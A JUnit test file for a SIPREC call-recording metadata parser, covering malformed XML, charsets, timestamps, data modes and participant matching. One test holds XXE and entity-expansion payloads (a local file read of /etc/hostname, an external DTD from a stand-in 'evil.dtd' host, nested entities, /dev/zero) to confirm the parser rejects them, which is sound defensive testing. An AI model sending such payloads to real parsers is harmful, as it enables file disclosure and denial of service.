package org.callvault.siprec.metadata;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.callvault.siprec.Samples;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class MetadataParserTest {
    private static final String NAMED = "<recording><participant participant_id='p'><nameID aor='sip:p@lab.example'>"
            + "<name>Zoë</name></nameID></participant></recording>";

    static Stream<Arguments> malformed() {
        String many = "<stream/>".repeat(5_001);
        String deep = "<a>".repeat(40) + "</a>".repeat(40);
        return Stream.of(
                Arguments.of("empty", ""),
                Arguments.of("blank", " \n\n"),
                Arguments.of("prose", "no XML at all"),
                Arguments.of("cut short", "<recording><session>"),
                Arguments.of("another root", "<html/>"),
                Arguments.of("a request", "<requestsnapshot xmlns='urn:ietf:params:xml:ns:recording:1'/>"),
                Arguments.of("too many elements", "<recording>" + many + "</recording>"),
                Arguments.of("too deep", "<recording>" + deep + "</recording>"),
                Arguments.of("too large", "<recording>" + " ".repeat(256 * 1024) + "</recording>"),
                Arguments.of("broken beyond ampersands", "<recording><name>A & B</recording>"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("malformed")
    void whatIsNoMetadataComesBackWithAReason(String name, String text) {
        assertThat(MetadataParser.parse(text.getBytes(UTF_8), null)).isInstanceOf(MalformedMetadata.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE recording [<!ENTITY x SYSTEM 'file:///etc/hostname'>]><recording>&x;</recording>",
                "<!DOCTYPE recording SYSTEM 'http://192.0.2.1/evil.dtd'><recording/>",
                "<!DOCTYPE r [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'><!ENTITY c '&b;&b;&b;'>]><recording>&c;</recording>",
                "<?xml version='1.0'?><!DOCTYPE recording [<!ENTITY % p SYSTEM 'file:///dev/zero'> %p;]><recording/>"
            })
    void entitiesAreNeitherExpandedNorFetched(String text) {
        assertThat(MetadataParser.parse(text.getBytes(UTF_8), null))
                .isEqualTo(new MalformedMetadata("document type declaration"));
    }

    @Test
    void anUndeclaredEntityIsTextOnceRepaired() {
        RecordingMetadata metadata =
                Samples.metadata(NAMED.replace("Zoë", "&xxe; &amp; R&D").getBytes(UTF_8));

        assertThat(metadata.participants().getFirst().name()).isEqualTo("&xxe; & R&D");
        assertThat(metadata.flags()).containsExactly(MetadataFlags.REPAIRED);
    }

    @Test
    void theCharsetOfThePartOverridesTheDeclaration() {
        String wrong = "<?xml version='1.0' encoding='UTF-8'?>" + NAMED;
        String latin = "<?xml version='1.0' encoding='ISO-8859-1'?>" + NAMED;
        String claimed = "<?xml version='1.0' encoding='utf-16'?>" + NAMED;

        assertThat(name(MetadataParser.parse(wrong.getBytes(ISO_8859_1), "iso-8859-1")))
                .isEqualTo("Zoë");
        assertThat(name(MetadataParser.parse(wrong.getBytes(UTF_16), "utf-16"))).isEqualTo("Zoë");
        assertThat(name(MetadataParser.parse(latin.getBytes(ISO_8859_1), null))).isEqualTo("Zoë");
        assertThat(name(MetadataParser.parse(claimed.getBytes(UTF_8), null))).isEqualTo("Zoë");
        assertThat(name(MetadataParser.parse(wrong.getBytes(UTF_8), "no such charset")))
                .isEqualTo("Zoë");
        assertThat(name(MetadataParser.parse(("\uFEFF" + NAMED).getBytes(UTF_8), null)))
                .isEqualTo("Zoë");
    }

    private static String name(ParsedMetadata parsed) {
        return String.valueOf(
                ((RecordingMetadata) parsed).participants().getFirst().name());
    }

    @ParameterizedTest
    @CsvSource({
        "2026-03-02T10:00:00Z,2026-03-02T10:00:00Z",
        "2026-03-02t10:00:00z,2026-03-02T10:00:00Z",
        "2026-03-02T10:00:00.5+02:00,2026-03-02T08:00:00.500Z",
        "2026-03-02T10:00:00+0200,2026-03-02T08:00:00Z",
        "2026-03-02 10:00:00 -0530,2026-03-02T15:30:00Z",
        "1970-01-01T00:00:00Z,1970-01-01T00:00:00Z",
        "2026-03-02T10:00:00,null",
        "yesterday,null"
    })
    void timesAreReadWithoutGuessingAZone(String text, String expected) {
        RecordingMetadata metadata = Samples.metadata(
                ("<recording><session session_id='s'><start-time>" + text + "</start-time></session></recording>")
                        .getBytes(UTF_8));
        CommunicationSession session = metadata.sessions().getFirst();

        assertThat(String.valueOf(session.startTime())).isEqualTo(expected);
        assertThat(session.startText()).isEqualTo(text);
        assertThat(metadata.flags().contains(MetadataFlags.TIME_UNCLEAR)).isEqualTo(expected.equals("null"));
    }

    static Stream<Arguments> modes() {
        return Stream.of(
                Arguments.of("", true),
                Arguments.of("<datamode>complete</datamode>", true),
                Arguments.of("<datamode>partial</datamode>", false),
                Arguments.of("<dataMode>Partial</dataMode>", false),
                Arguments.of("<mode>partial</mode>", false));
    }

    @ParameterizedTest
    @MethodSource("modes")
    void theDataModeIsReadInEverySpelling(String mode, boolean complete) {
        assertThat(Samples.metadata(("<recording>" + mode + "</recording>").getBytes(UTF_8))
                        .complete())
                .isEqualTo(complete);
    }

    static Stream<Arguments> silence() {
        String streams =
                "<stream stream_id='1'><label>1</label></stream><stream stream_id='2'><label>2</label></stream>";
        String parties = "<participant participant_id='a'/><participant participant_id='b'/>";
        return Stream.of(
                Arguments.of("no associations", streams + parties, "[a] [b]"),
                Arguments.of(
                        "neither sends", streams + parties + "<participantstreamassoc participant_id='a'/>", "[] []"),
                Arguments.of(
                        "one only hears",
                        streams + parties
                                + "<participantstreamassoc participant_id='a'><recv>1</recv></participantstreamassoc>",
                        "[] []"),
                Arguments.of("a partial update", "<datamode>partial</datamode>" + streams + parties, "[] []"),
                Arguments.of("more parties than streams", streams + parties + "<participant id='c'/>", "[] []"),
                Arguments.of("nobody", streams, "[] []"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("silence")
    void participantsAreMatchedByOrderOnlyWhereNothingIsSaid(String name, String content, String expected) {
        RecordingMetadata metadata = Samples.metadata(("<recording>" + content + "</recording>").getBytes(UTF_8));

        assertThat(ids(metadata, "1") + " " + ids(metadata, "2")).isEqualTo(expected);
    }

    private static String ids(RecordingMetadata metadata, String label) {
        return metadata.sendersOf(label).stream()
                .map(MetadataParticipant::id)
                .toList()
                .toString();
    }

    @Test
    void anUpdateMayNameAParticipantByItsIdAlone() {
        RecordingMetadata metadata = Samples.metadata(("<recording><datamode>partial</datamode>"
                        + "<participantstreamassoc participant_id='p'><send>s</send></participantstreamassoc></recording>")
                .getBytes(UTF_8));

        assertThat(metadata.participant("p").orElseThrow().sends()).containsExactly("s");
    }
}
